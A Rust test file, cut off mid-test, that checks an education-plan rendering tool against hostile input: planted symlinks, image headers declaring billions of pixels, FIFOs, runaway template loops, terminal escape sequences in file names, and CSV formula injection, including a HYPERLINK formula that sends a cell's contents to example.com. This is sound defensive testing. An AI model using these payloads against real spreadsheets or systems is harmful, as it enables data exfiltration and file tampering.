//! Hostile input, second pass: each fault an outside attack on the built `iep` found, as a test of
//! the command itself. No file outside the output folder, no runaway, no record left behind.

use crate::common;

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::{Scratch, assert_says, files, stderr, stdout};

const IEP: &str = env!("CARGO_BIN_EXE_iep");

/// A clean plan (every policy's), with `photo:` and a target's `symbol:` when given.
fn plan_with(photo: Option<&str>, symbol: Option<&str>) -> String {
    let mut plan = common::CLEAN.to_owned();
    if let Some(photo) = photo {
        plan = plan.replacen(
            "  asn_level: 2\n",
            &format!("  asn_level: 2\n  photo: {photo}\n"),
            1,
        );
    }
    if let Some(symbol) = symbol {
        plan = plan.replacen(
            "        pupil_words: I wait for my turn to talk.\n",
            &format!(
                "        pupil_words: I wait for my turn to talk.\n        symbol: {symbol}\n"
            ),
            1,
        );
    }
    plan
}

/// Runs `iep` through the shell after `limits` (shell commands such as `ulimit -v 2000000`), in
/// `folder`, giving up after `seconds`.
fn iep_limited(folder: &Path, limits: &str, args: &[&str], seconds: u64) -> Output {
    let quoted: Vec<String> = args.iter().map(|a| format!("'{a}'")).collect();
    let script = format!(
        "{limits}\nexec timeout {seconds} '{IEP}' {}",
        quoted.join(" ")
    );
    Command::new("sh")
        .arg("-c")
        .arg(script)
        .env("IEP_TODAY", common::TODAY)
        .current_dir(folder)
        .output()
        .unwrap_or_else(|e| panic!("sh did not run: {e}"))
}

fn iep_in(folder: &Path, args: &[&str]) -> Output {
    iep_limited(folder, "", args, 60)
}

/// `iep check --form` of a clean plan on the form `form` (its YAML) refuses the form (exit 2)
/// and says each of `says`.
fn assert_form_refused(scratch: &Scratch, form: &str, says: &[&str]) {
    let form = scratch.write("form.yaml", form);
    let plan = scratch.write("plan.yaml", &plan_with(None, None));
    let output = iep_in(&scratch.0, &["check", "--form", &form, &plan]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert_says(&output, says);
}

/// `iep render` of a clean plan on the form `form` (its YAML), in 1 GB of memory and at most
/// 30 seconds, refuses the plan (exit 1), writes nothing and says each of `says`.
fn assert_render_refused(scratch: &Scratch, form: &str, says: &[&str]) {
    scratch.write("form.yaml", form);
    scratch.write("plan.yaml", &plan_with(None, None));
    let output = iep_limited(
        &scratch.0,
        "ulimit -v 1000000",
        &["render", "plan.yaml", "--form", "form.yaml", "--out", "out"],
        30,
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_says(&output, says);
    assert!(files(&scratch.0.join("out")).is_empty());
}

fn mkfifo(path: &Path) {
    let made = Command::new("mkfifo").arg(path).status();
    assert!(made.is_ok_and(|s| s.success()), "mkfifo failed");
}

// 1. A planted symlink redirects the write.

#[test]
fn a_symlink_planted_at_the_temporary_names_is_never_written_through() {
    let scratch = Scratch::new("hostile-planted");
    let out = scratch.0.join("out");
    std::fs::create_dir_all(&out).unwrap_or_else(|e| panic!("{e}"));
    let outside = scratch.0.join("outside.pdf");
    std::fs::write(&outside, "untouched").unwrap_or_else(|e| panic!("{e}"));
    // The names iep once used, `.NAME.PID.partial`, for the process ids the next runs will get.
    let next = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
        .ok()
        .and_then(|pid| pid.trim().parse::<u32>().ok())
        .unwrap_or(1);
    for pid in next..next + 2_000 {
        let link = out.join(format!(".general.pdf.{pid}.partial"));
        let _ = std::os::unix::fs::symlink(&outside, link);
    }
    let output = iep_in(
        &scratch.0,
        &[
            "render",
            &common::absolute("examples/plans/general.yaml"),
            "--out",
            "out",
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        std::fs::read_to_string(&outside).unwrap_or_default(),
        "untouched"
    );
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(out.join("general.pdf")).map(|m| m.permissions().mode() & 0o777);
    assert_eq!(mode.ok(), Some(0o600));
}

// 2. A small PNG that declares a huge size.

/// A PNG whose header declares `width` x `height`, with one byte of picture data.
fn declaring(width: u32, height: u32) -> Vec<u8> {
    common::png_declaring(width, height, 8, 2, &[0])
}

#[test]
fn a_picture_declaring_two_billion_pixels_is_refused_before_any_decoder_allocates() {
    let scratch = Scratch::new("hostile-huge-png");
    std::fs::write(scratch.0.join("huge.png"), declaring(2_147_483_647, 1))
        .unwrap_or_else(|e| panic!("{e}"));
    let mut jpeg = vec![0xFF, 0xD8, 0xFF, 0xE0, 0, 4, 0, 0, 0xFF, 0xC0, 0, 11, 8];
    jpeg.extend([0xFF, 0xFF, 0xFF, 0xFF, 3]);
    std::fs::write(scratch.0.join("huge.jpg"), jpeg).unwrap_or_else(|e| panic!("{e}"));
    for (photo, declared) in [
        ("huge.png", "2147483647 x 1"),
        ("huge.jpg", "65535 x 65535"),
    ] {
        scratch.write("plan.yaml", &plan_with(Some(photo), Some(photo)));
        let started = Instant::now();
        // Under 1 GB of address space: a decoder reserving its buffer would abort the process.
        let output = iep_limited(
            &scratch.0,
            "ulimit -v 1000000",
            &["render", "plan.yaml", "--pupil-friendly", "--out", "out"],
            30,
        );
        assert_eq!(
            output.status.code(),
            Some(1),
            "{photo}: {}",
            stderr(&output)
        );
        assert!(
            stderr(&output).contains(declared),
            "{photo}: {}",
            stderr(&output)
        );
        assert!(started.elapsed() < Duration::from_secs(10));
        let check = iep_in(&scratch.0, &["check", "--pupil-friendly", "plan.yaml"]);
        assert!(
            stdout(&check).contains("error[missing-image]"),
            "{}",
            stdout(&check)
        );
    }
}

#[test]
fn a_forms_own_picture_declaring_a_huge_size_is_refused_at_the_forms_line() {
    let scratch = Scratch::new("hostile-form-png");
    std::fs::write(scratch.0.join("logo.png"), declaring(100_000, 100_000))
        .unwrap_or_else(|e| panic!("{e}"));
    assert_render_refused(
        &scratch,
        "name: school\ntitle: IEP\nblocks:\n  - image: logo.png\n    width_mm: 30\n",
        &["form.yaml:4:5: error[missing-image]", "100000 x 100000"],
    );
}

#[test]
fn nine_24_megapixel_16_bit_pictures_render_in_little_memory() {
    let scratch = Scratch::new("hostile-16-bit");
    let big = common::png_solid(6000, 4000, 16);
    let mut plan = plan_with(Some("photo.png"), None);
    std::fs::write(scratch.0.join("photo.png"), &big).unwrap_or_else(|e| panic!("{e}"));
    for (n, words) in [
        "I wait for my turn to talk.",
        "I can read my 20 words.",
        "I put on my ear defenders.",
        "I look at my timetable.",
    ]
    .iter()
    .enumerate()
    {
        let name = format!("big{n}.png");
        std::fs::write(scratch.0.join(&name), &big).unwrap_or_else(|e| panic!("{e}"));
        plan = plan.replacen(
            &format!("        pupil_words: {words}\n"),
            &format!("        pupil_words: {words}\n        symbol: {name}\n"),
            1,
        );
    }
    scratch.write("plan.yaml", &plan);
    // Five pictures of 24 million 16-bit pixels: 960 MB if each were kept as decoded.
    let output = iep_limited(
        &scratch.0,
        "ulimit -v 900000",
        &[
            "render",
            "plan.yaml",
            "--pupil-friendly",
            "--to",
            "pdf,docx",
            "--jobs",
            "1",
            "--out",
            "out",
        ],
        120,
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        files(&scratch.0.join("out")),
        ["plan-pupil.docx", "plan-pupil.pdf"]
    );
}

// 3. A table header taller than the page.

#[test]
fn a_table_header_taller_than_the_page_is_refused_at_the_forms_line() {
    assert_form_refused(
        &Scratch::new("hostile-tall-header"),
        "name: tall\ntitle: Tall\nblocks:\n  - table:\n      columns: [1]\n      header: [{height: 280, cells: [Head]}]\n      rows: [{cells: [\"{{ pupil.name }}\"]}]\n",
        &["error[form-error]", "form.yaml:6:7\n"],
    );
}

#[test]
fn a_header_made_tall_by_an_expression_is_refused_by_the_pager_not_paged_for_ever() {
    assert_render_refused(
        &Scratch::new("hostile-tall-expression"),
        "name: tall\ntitle: Tall\nblocks:\n  - table:\n      columns: [1]\n      header: [{height: \"200 + 80\", cells: [Head]}]\n      rows: [{cells: [\"{{ pupil.name }}\"]}]\n",
        &["header rows"],
    );
}

// 4. A FIFO where a file belongs.

#[test]
fn a_fifo_as_plan_photo_symbol_or_form_picture_is_refused_at_once() {
    let scratch = Scratch::new("hostile-fifo");
    mkfifo(&scratch.0.join("pipe.png"));
    mkfifo(&scratch.0.join("pipe.yaml"));
    scratch.write("photo.yaml", &plan_with(Some("pipe.png"), None));
    scratch.write("symbol.yaml", &plan_with(None, Some("pipe.png")));
    scratch.write(
        "form.yaml",
        "name: school\ntitle: IEP\nblocks:\n  - image: pipe.png\n    width_mm: 30\n",
    );
    scratch.write("plain.yaml", &plan_with(None, None));
    let started = Instant::now();
    for args in [
        &["check", "pipe.yaml"][..],
        &["render", "pipe.yaml", "--out", "out"],
        &["check", "--pupil-friendly", "photo.yaml"],
        &["render", "photo.yaml", "--pupil-friendly", "--out", "out"],
        &["render", "symbol.yaml", "--pupil-friendly", "--out", "out"],
        &[
            "render",
            "plain.yaml",
            "--form",
            "form.yaml",
            "--out",
            "out",
        ],
    ] {
        let output = iep_limited(&scratch.0, "", args, 10);
        let said = stdout(&output) + &stderr(&output);
        assert!(
            matches!(output.status.code(), Some(1 | 2)),
            "{args:?}: {:?} {said}",
            output.status
        );
        assert!(said.contains("not a regular file"), "{args:?}: {said}");
    }
    assert!(started.elapsed() < Duration::from_secs(20));
}

// 5. A form whose work is unbounded.

#[test]
fn a_form_whose_loops_run_away_is_refused_at_the_line_of_its_loop() {
    let started = Instant::now();
    assert_render_refused(
        &Scratch::new("hostile-loops"),
        "name: loops\ntitle: Loops\nblocks:\n  - each: range(1000)\n    blocks:\n      - each: range(1000)\n        blocks:\n          - paragraph: x\n",
        &[
            "form.yaml:6:9: error[form-error]",
            "more than 2000 blocks and rows",
        ],
    );
    assert!(started.elapsed() < Duration::from_secs(10));
}

#[test]
fn a_form_that_works_its_templates_for_ever_is_stopped_by_its_budget() {
    let started = Instant::now();
    assert_render_refused(
        &Scratch::new("hostile-fuel"),
        "name: busy\ntitle: Busy\nblocks:\n  - each: range(500)\n    blocks:\n      - paragraph: \"{% for i in range(40000) %}{% endfor %}x\"\n",
        &["form.yaml:6:9: error[form-error]", "more work for one plan"],
    );
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[test]
fn a_min_beyond_any_paper_form_is_refused_at_its_line() {
    assert_form_refused(
        &Scratch::new("hostile-min"),
        "name: min\ntitle: Min\nblocks:\n  - each: goals\n    min: 100000000\n    blocks:\n      - paragraph: x\n",
        &["error[form-error]", "form.yaml:4:5\n", "at most 50"],
    );
}

#[test]
fn no_document_runs_past_a_hundred_pages() {
    assert_render_refused(
        &Scratch::new("hostile-pages"),
        "name: pages\ntitle: Pages\nblocks:\n  - each: range(150)\n    blocks:\n      - paragraph: x\n      - page_break: true\n",
        &["past 100 pages"],
    );
}

// 6. Messages that repeat what they must not.

#[test]
fn a_line_that_lost_its_indentation_is_not_repeated_in_messages() {
    let plan = common::CLEAN.replacen(
        "  year_group: P5\n",
        "  year_group: P5\n  Sam has epilepsy and takes medicine at lunch: yes\n",
        1,
    );
    let diagnostic = common::refusal(&plan);
    assert_eq!(diagnostic.code, iep::Code::UnknownField);
    assert!(!diagnostic.to_string().contains("epilepsy"), "{diagnostic}");
    assert!(diagnostic.place.is_some());
    // A typo of a field name is still named.
    let typo = common::refusal(&common::CLEAN.replacen(
        "  year_group: P5\n",
        "  year_group: P5\n  postcod: X\n",
        1,
    ));
    assert!(typo.to_string().contains("`postcod`"), "{typo}");
    assert_eq!(typo.hint.as_deref(), Some("did you mean `postcode`?"));
}

#[test]
fn a_custom_tag_is_not_repeated_in_messages() {
    let plan = common::CLEAN.replacen("school: Test", "school: !Confidential-Sam Test", 1);
    let diagnostic = common::refusal(&plan);
    assert!(
        !diagnostic.to_string().contains("Confidential"),
        "{diagnostic}"
    );
    assert!(diagnostic.place.is_some());
}

#[test]
fn a_form_path_naming_a_secret_file_never_shows_its_contents() {
    let scratch = Scratch::new("hostile-shadow");
    scratch.write(
        "secret.yaml",
        "root:$6$secret-hash:19000:0:99999:7:::\nsecond line\n",
    );
    scratch.write(
        "plan.yaml",
        &format!("form: secret.yaml\n{}", plan_with(None, None)),
    );
    for args in [
        &["check", "--format", "json", "plan.yaml"][..],
        &["check", "plan.yaml"],
        &["render", "plan.yaml", "--out", "out"],
    ] {
        let output = iep_in(&scratch.0, args);
        let said = stdout(&output) + &stderr(&output);
        assert!(!said.contains("secret-hash"), "{args:?}: {said}");
        assert!(said.contains("form"), "{args:?}: {said}");
    }
}

// 7. Copies of the record left behind.

#[test]
fn a_run_removes_what_a_killed_run_left_in_its_folder() {
    let scratch = Scratch::new("hostile-left-over");
    let out = scratch.0.join("out");
    std::fs::create_dir_all(&out).unwrap_or_else(|e| panic!("{e}"));
    // A process id beyond any the kernel gives out: its run is over.
    std::fs::write(
        out.join(".iep-99999998-Ab3dE5gH7j.partial"),
        "a whole copy of a record",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    // A file of a run still going (process 1 is always running) is left alone.
    std::fs::write(out.join(".iep-1-Zz9yX8wV7u.partial"), "in progress")
        .unwrap_or_else(|e| panic!("{e}"));
    let output = iep_in(
        &scratch.0,
        &[
            "render",
            &common::absolute("examples/plans/general.yaml"),
            "--out",
            "out",
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(files(&out), [".iep-1-Zz9yX8wV7u.partial", "general.pdf"]);
}

#[test]
fn a_run_stopped_by_sigterm_leaves_no_partial_file() {
    let scratch = Scratch::new("hostile-sigterm");
    let plans = scratch.0.join("plans");
    std::fs::create_dir_all(&plans).unwrap_or_else(|e| panic!("{e}"));
    for n in 0..60 {
        std::fs::copy(
            "examples/plans/highland.yaml",
            plans.join(format!("p{n}.yaml")),
        )
        .unwrap_or_else(|e| panic!("{e}"));
    }
    for delay in [150, 400] {
        let out = scratch.0.join(format!("out-{delay}"));
        let mut child = common::iep_command()
            .args(["render", "--to", "pdf,docx", "--out"])
            .arg(&out)
            .arg(&plans)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("{e}"));
        std::thread::sleep(Duration::from_millis(delay));
        let killed = Command::new("kill")
            .args(["-TERM", &child.id().to_string()])
            .status();
        assert!(killed.is_ok());
        let _ = child.wait();
        let partial: Vec<String> = files(&out)
            .into_iter()
            .filter(|f| f.ends_with(".partial"))
            .collect();
        assert!(partial.is_empty(), "{partial:?}");
    }
}

// 8. A plan's documents from different versions.

#[test]
fn a_plans_pdf_and_docx_are_replaced_together_or_not_at_all() {
    let scratch = Scratch::new("hostile-unit");
    let out = scratch.0.join("out");
    std::fs::create_dir_all(&out).unwrap_or_else(|e| panic!("{e}"));
    for name in ["highland.pdf", "highland.docx"] {
        std::fs::write(out.join(name), "earlier").unwrap_or_else(|e| panic!("{e}"));
    }
    // A file may grow to 20 KB: the DOCX fits, the PDF does not, as on a disk that fills up.
    let output = iep_limited(
        &scratch.0,
        "trap '' XFSZ; ulimit -f 40",
        &[
            "render",
            &common::absolute("examples/plans/highland.yaml"),
            "--to",
            "docx,pdf",
            "--out",
            "out",
        ],
        60,
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_says(&output, &["cannot write"]);
    for name in ["highland.pdf", "highland.docx"] {
        assert_eq!(
            std::fs::read_to_string(out.join(name)).unwrap_or_default(),
            "earlier"
        );
    }
    assert_eq!(files(&out), ["highland.docx", "highland.pdf"]);
}

// 9 and 10. Standard output that fails, or closes.

#[test]
fn a_json_report_to_a_full_disk_is_an_error_not_a_truncated_file() {
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap_or_else(|e| panic!("{e}"));
    let output = common::iep_command()
        .args(["check", "--format", "json", "examples/plans"])
        .stdout(full)
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(output.status.code(), Some(2));
    assert_says(&output, &["cannot write the output"]);
}

#[test]
fn a_closed_pipe_ends_the_output_quietly() {
    let scratch = Scratch::new("hostile-pipe");
    let out = scratch.0.display().to_string();
    for args in [
        &["forms"][..],
        &["schema"],
        &["new"],
        &["check", "examples/plans", "tests/plans"],
        &["render", "examples/plans", "--out", &out],
    ] {
        let mut child = common::iep_command()
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("{e}"));
        drop(child.stdout.take());
        let output = child.wait_with_output().unwrap_or_else(|e| panic!("{e}"));
        assert!(
            output.status.code().is_some_and(|c| c < 100),
            "{args:?}: {:?}",
            output.status
        );
        assert!(
            !stderr(&output).contains("panicked"),
            "{args:?}: {}",
            stderr(&output)
        );
    }
}

// 11. The same plan, the same bytes.

#[test]
fn the_pupil_page_is_the_same_bytes_in_any_batch_thread_count_and_folder() {
    let scratch = Scratch::new("hostile-same-bytes");
    let elsewhere = scratch.0.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap_or_else(|e| panic!("{e}"));
    std::fs::copy(
        "examples/plans/durants.yaml",
        elsewhere.join("durants.yaml"),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let runs: [(&str, Vec<&str>); 3] = [
        ("alone", vec!["examples/plans/durants.yaml", "--jobs", "1"]),
        ("batch", vec!["examples/plans", "--jobs", "2"]),
        (
            "moved",
            vec![elsewhere.to_str().unwrap_or_default(), "--jobs", "1"],
        ),
    ];
    let mut documents: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
    for (name, inputs) in runs {
        let out = scratch.0.join(name);
        let output = common::iep_command()
            .arg("render")
            .args(&inputs)
            .args(["--pupil-friendly", "--to", "pdf,docx", "--out"])
            .arg(&out)
            .output()
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        let read = |f: &str| std::fs::read(out.join(f)).unwrap_or_else(|e| panic!("{name}: {e}"));
        documents.push((read("durants-pupil.pdf"), read("durants-pupil.docx")));
    }
    for pair in documents.windows(2) {
        assert!(pair[0].0 == pair[1].0, "the PDFs differ");
        assert!(pair[0].1 == pair[1].1, "the DOCX files differ");
    }
}

// 12. The smaller faults.

#[test]
fn a_plan_with_a_240_character_name_renders() {
    let scratch = Scratch::new("hostile-long-name");
    let name = format!("{}.yaml", "a".repeat(240));
    scratch.write(&name, &plan_with(None, None));
    let output = iep_in(
        &scratch.0,
        &["render", &name, "--to", "pdf,docx", "--out", "out"],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(files(&scratch.0.join("out")).len(), 2);
}

#[test]
fn a_symbolic_link_below_out_is_not_followed_out_of_it() {
    let scratch = Scratch::new("hostile-linked-folder");
    let plans = scratch.0.join("plans/class-4");
    let elsewhere = scratch.0.join("elsewhere");
    for folder in [&plans, &elsewhere, &scratch.0.join("out")] {
        std::fs::create_dir_all(folder).unwrap_or_else(|e| panic!("{e}"));
    }
    std::fs::copy("examples/plans/general.yaml", plans.join("amara.yaml"))
        .unwrap_or_else(|e| panic!("{e}"));
    std::os::unix::fs::symlink(&elsewhere, scratch.0.join("out/class-4"))
        .unwrap_or_else(|e| panic!("{e}"));
    let output = iep_in(&scratch.0, &["render", "plans", "--out", "out"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_says(&output, &["symbolic link"]);
    assert!(files(&elsewhere).is_empty());
}

#[test]
fn a_plan_with_carriage_return_line_endings_is_read() {
    let plan = plan_with(None, None).replace('\n', "\r");
    let report = iep::check(&iep::Source::new("mac.yaml", plan));
    assert!(!report.has_errors(), "{report}");
}

#[test]
fn a_date_of_birth_after_the_plan_is_an_error() {
    let plan = common::edited(
        "  date_of_birth: 2017-04-12\n",
        "  date_of_birth: 2027-04-12\n",
    );
    let report = iep::check(&iep::Source::new("plan.yaml", plan));
    let errors: Vec<&iep::Diagnostic> = report.errors().collect();
    assert_eq!(errors.len(), 1, "{report}");
    assert_eq!(errors[0].code, iep::Code::BirthAfterPlan);
    assert_eq!(errors[0].place.map(|p| p.line), Some(4));
}

#[test]
fn year_0000_is_not_a_date() {
    let plan = common::edited("  created: 2026-10-05\n", "  created: 0000-10-05\n");
    assert_eq!(common::load_error(&plan), iep::Code::InvalidDate);
}

#[test]
fn a_forms_messages_speak_of_a_form_not_a_plan() {
    let deep = format!(
        "name: x\ntitle: x\nblocks: {}{}\n",
        "[".repeat(40),
        "]".repeat(40)
    );
    let error = iep::Form::parse(&iep::Source::new("form.yaml", deep))
        .err()
        .and_then(|e| e.diagnostics().first().cloned())
        .unwrap_or_else(|| panic!("the form loaded"));
    assert_eq!(error.code, iep::Code::TooComplex);
    assert_eq!(
        error.hint.as_deref(),
        Some("check that this is the form file you meant")
    );
    let list = iep::Form::parse(&iep::Source::new("form.yaml", "- a\n- b\n"))
        .err()
        .and_then(|e| e.diagnostics().first().cloned())
        .unwrap_or_else(|| panic!("the form loaded"));
    assert!(
        list.message.starts_with("a form file is a mapping"),
        "{list}"
    );
}

#[test]
fn escape_sequences_in_file_names_reach_the_terminal_escaped() {
    let scratch = Scratch::new("hostile-escapes");
    let name = "plan\u{1b}[2J\u{1b}]0;owned\u{7}.yaml";
    scratch.write(name, &common::edited("  review: 2027-01-25\n", ""));
    for args in [&["check", name][..], &["render", name, "--out", "out"]] {
        let output = iep_in(&scratch.0, args);
        let said = stdout(&output) + &stderr(&output);
        assert!(!said.contains('\u{1b}'), "{args:?}: {said:?}");
        assert!(said.contains("plan\\u{1b}[2J"), "{args:?}: {said}");
    }
}

// 7. The provision map, the class list and the histories: text stays text, figures are
// checked, and one pupil's trouble costs nobody else's document.

use crate::provision::{COSTS, plan_of, provision_of, recalculated, rows, total_after, total_row};

#[test]
fn the_maps_csv_never_opens_plan_text_as_a_formula() {
    let scratch = Scratch::new("hostile-csv-formulas");
    let link = "=HYPERLINK(\"http://example.com/?\"&A2,\"open\")";
    let plans = [
        (
            "a.yaml",
            plan_of(
                link,
                Some("-1+2"),
                &[("+SUM(1,2)", "@cmd", "3 x 20 minutes a week")],
            ),
        ),
        (
            "b.yaml",
            plan_of(
                "\tAmara",
                Some("=2*3"),
                &[("-Phonics", "=1+1", "daily, 10 minutes")],
            ),
        ),
    ];
    let (output, out) = provision_of(&scratch, &plans, &["--to", "csv,xlsx"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let csv =
        std::fs::read_to_string(out.join("provision-map.csv")).unwrap_or_else(|e| panic!("{e}"));
    let rows = rows(&csv);
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would be a formula:\n{csv}"
        );
    }
    assert_eq!(rows[1][0], "'+SUM(1,2)", "{csv}");
    assert_eq!(rows[1][7], format!("'{link}"), "{csv}");
    // LibreOffice opens the CSV and keeps every cell as the text it is: no formula.
    let profile = format!(
        "-env:UserInstallation=file://{}/profile",
        scratch.0.display()
    );
    let converted = Command::new("soffice")
        .args(["--headless", &profile, "--convert-to", "xlsx", "--outdir"])
        .arg(scratch.0.join("lo"))
        .arg(out.join("provision-map.csv"))
        .output()
        .unwrap_or_else(|e| panic!("soffice did not run ({e})"));
    assert!(
        converted.status.success(),
        "{}",
        String::from_utf8_lossy(&converted.stderr)
    );
    let script = "import sys, openpyxl\nws = openpyxl.load_workbook(sys.argv[1]).active\nprint([c.value for r in ws.iter_rows() for c in r if c.data_type == 'f'])\n";
    let opened =
        std::fs::read(scratch.0.join("lo/provision-map.xlsx")).unwrap_or_else(|e| panic!("{e}"));
    let (ok, formulas) = common::tool("python3", &["-c", script], &opened, "xlsx");
    assert!(ok && formulas.trim() == "[]", "{formulas}");
    // The XLSX holds them as text too.
    let sheets = recalculated(&scratch, &out.join("provision-map.xlsx"));
    assert!(sheets[0].1.contains("+SUM(1,2)"), "{}", sheets[0].1);
}

#[test]
fn the_xlsx_totals_match_a_staff_role_or_year_group_exactly_whatever_it_says() {
    let scratch = Scratch::new("hostile-exact-totals");
    let costs = scratch.write("costs.yaml", COSTS);
    let plans = [
        (
            "a.yaml",
            plan_of(
                "Amara Okafor",
                Some("<>Q"),
                &[("Phonics", "*", "3 x 20 minutes a week")],
            ),
        ),
        (
            "b.yaml",
            plan_of(
                "Oliver Nowak",
                Some("Q"),
                &[("Sound cards", "Teaching assistant", "4 x 15 minutes a week")],
            ),
        ),
        (
            "c.yaml",
            plan_of(
                "Zofia Nowak",
                Some("Year 4"),
                &[("Ruler", "?eaching assistant", "2 x 30 minutes a week")],
            ),
        ),
        (
            "d.yaml",
            plan_of(
                "Kacper Nowak",
                Some("~Q"),
                &[("Cards", "teaching assistant*", "daily, 12 minutes")],
            ),
        ),
        (
            "e.yaml",
            plan_of(
                "Isla Fraser",
                Some("Year 4"),
                &[("Word games", "class teacher", "4 x 15 minutes a week")],
            ),
        ),
    ];
    let (output, out) = provision_of(&scratch, &plans, &["--to", "xlsx,csv", "--costs", &costs]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let sheets = recalculated(&scratch, &out.join("provision-map.xlsx"));
    let totals = rows(&sheets[2].1);
    // Each role's and year group's own hours and minutes, not every row a criterion matches.
    for (title, key, expected) in [
        ("Staff role", "*", 1.0),
        ("Staff role", "Teaching assistant", 1.0),
        ("Staff role", "?eaching assistant", 1.0),
        ("Staff role", "teaching assistant*", 1.0),
        ("Year group", "<>Q", 60.0),
        ("Year group", "Q", 60.0),
        ("Year group", "~Q", 60.0),
        ("Year group", "Year 4", 120.0),
    ] {
        assert_eq!(
            total_after(&totals, title, key),
            expected,
            "{key}: {totals:?}"
        );
    }
    // The spreadsheet's total agrees with the CSV's.
    let csv =
        std::fs::read_to_string(out.join("provision-map.csv")).unwrap_or_else(|e| panic!("{e}"));
    let recalculated_total = total_row(&sheets[0].1);
    assert!(
        (recalculated_total[13] - total_row(&csv)[13]).abs() < 0.01,
        "{csv}"
    );
}

#[test]
fn a_cell_longer_than_excel_holds_is_cut_with_a_word_and_the_map_is_written() {
    let scratch = Scratch::new("hostile-long-cell");
    // Five pupils of 8,000-character names on one provision: 40,000 characters of pupils.
    let plans: Vec<(String, String)> = (0..5)
        .map(|i| {
            let name = format!("{} {i}", "Aleksandra-Wiśniewska ".repeat(360).trim_end());
            (
                format!("p{i}.yaml"),
                plan_of(
                    &name,
                    Some("Year 4"),
                    &[("Phonics", "Teaching assistant", "3 x 20 minutes a week")],
                ),
            )
        })
        .collect();
    let plans: Vec<(&str, String)> = plans.iter().map(|(n, t)| (n.as_str(), t.clone())).collect();
    let (output, out) = provision_of(&scratch, &plans, &["--to", "xlsx,csv,pdf"]);
    // The PDF of such names runs past its pages and is not written: the spreadsheets are.
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_says(
        &output,
        &[
            "1 cell of provision-map.xlsx held more than a spreadsheet cell can",
            "provision-map.pdf was not written",
        ],
    );
    assert_eq!(files(&out), ["provision-map.csv", "provision-map.xlsx"]);
    let script = "import sys, openpyxl\nwb = openpyxl.load_workbook(sys.argv[1])\nv = wb['Provision']['H2'].value\nprint(len(v.encode('utf-16-le')) // 2, v[-42:])\nprint(wb['Pupils'].max_row)\n";
    let xlsx = std::fs::read(out.join("provision-map.xlsx")).unwrap_or_else(|e| panic!("{e}"));
    let (ok, seen) = common::tool("python3", &["-c", script], &xlsx, "xlsx");
    assert!(ok, "{seen}");
    let (length, rest) = seen.split_once(' ').unwrap_or_default();
    assert!(length.parse::<usize>().is_ok_and(|n| n <= 32_767), "{seen}");
    assert!(
        rest.starts_with("; and 1 more (each is on the Pupils sheet)\n6\n"),
        "{seen}"
    );
    let csv =
        std::fs::read_to_string(out.join("provision-map.csv")).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        rows(&csv)[1][7].matches("Aleksandra").count(),
        5 * 360,
        "the CSV has them all"
    );
}

#[test]
fn costs_that_are_no_sum_of_money_are_refused_at_their_line_and_nothing_is_written() {
    for (line, at) in [
        ("  teaching assistant: .nan\n", "costs.yaml:2:3"),
        ("  teaching assistant: .inf\n", "costs.yaml:2:3"),
        ("  teaching assistant: -14.50\n", "costs.yaml:2:3"),
        ("  teaching assistant: 1e308\n", "costs.yaml:2:3"),
    ] {
        let scratch = Scratch::new("hostile-costs");
        let costs = scratch.write(
            "costs.yaml",
            &format!("hourly_cost:\n{line}weeks_per_year: 39\n"),
        );
        let plans = [(
            "a.yaml",
            plan_of(
                "Amara Okafor",
                Some("Year 4"),
                &[("Phonics", "Teaching assistant", "3 x 20 minutes a week")],
            ),
        )];
        let (output, out) =
            provision_of(&scratch, &plans, &["--to", "csv,xlsx", "--costs", &costs]);
        assert_eq!(output.status.code(), Some(2), "{line}: {}", stderr(&output));
        assert_says(
            &output,
            &[
                "error[invalid-value]: an hourly cost must be a number of pounds from 0 to 1000",
                at,
            ],
        );
        assert!(!out.exists(), "{line}: nothing is written");
    }
    let scratch = Scratch::new("hostile-weeks");
    let costs = scratch.write("costs.yaml", "weeks_per_year: .nan\n");
    let plans = [(
        "a.yaml",
        plan_of(
            "Amara Okafor",
            Some("Year 4"),
            &[("Phonics", "Teaching assistant", "3 x 20 minutes a week")],
        ),
    )];
    let (output, _) = provision_of(&scratch, &plans, &["--to", "csv", "--costs", &costs]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert_says(
        &output,
        &[
            "costs.yaml:1:1",
            "`weeks_per_year` must be a number of weeks from 1 to 53",
        ],
    );
}

#[test]
fn a_class_list_of_a_hundred_thousand_rows_is_refused_at_once_and_no_plan_is_started() {
    let scratch = Scratch::new("hostile-class-list");
    let mut list = String::from("Name\n");
    for i in 0..100_000 {
        list += &format!("P{i}\n");
    }
    scratch.write("class.csv", &list);
    let started = Instant::now();
    let output = iep_limited(
        &scratch.0,
        "",
